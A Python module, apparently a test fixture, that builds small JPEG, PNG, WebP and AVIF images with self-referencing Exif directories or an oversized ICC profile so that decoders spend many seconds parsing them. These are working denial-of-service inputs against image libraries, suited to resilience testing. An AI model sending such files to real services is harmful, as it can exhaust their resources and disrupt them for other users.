"""Small pictures whose headers take a decoder library many seconds of processor time to read."""

import io
import struct
import zlib

from PIL import Image

_EXIF_POINTER = 0x8769
"""The tag of the directory with the details of a photo (Exif 2.32, 4.6.3)."""


def looping_exif(entries: int = 5400) -> bytes:
    """A directory whose entries all say that there is another directory, where it is itself."""
    entry = struct.pack("<HHII", _EXIF_POINTER, 4, 1, 8)
    return b"II*\0" + struct.pack("<IH", 8, entries) + entry * entries + struct.pack("<I", 8)


def jpeg_with_looping_exif() -> bytes:
    data, exif = _saved("JPEG"), b"Exif\0\0" + looping_exif()
    return data[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + data[2:]


def png_with_looping_exif() -> bytes:
    data, exif = _saved("PNG"), looping_exif(65535)
    chunk = struct.pack(">I", len(exif)) + b"eXIf" + exif + struct.pack(">I", zlib.crc32(b"eXIf" + exif))
    return data[:33] + chunk + data[33:]


def webp_with_looping_exif() -> bytes:
    return _saved("WEBP", exif=looping_exif())


def avif_with_large_profile() -> bytes:
    return _saved("AVIF", icc_profile=bytes(30 * 1024 * 1024))


def _saved(format_: str, **options: bytes) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(file, format_, **options)
    return file.getvalue()


SLOW_IMAGES = (
    png_with_looping_exif,
    webp_with_looping_exif,
    avif_with_large_profile,
)
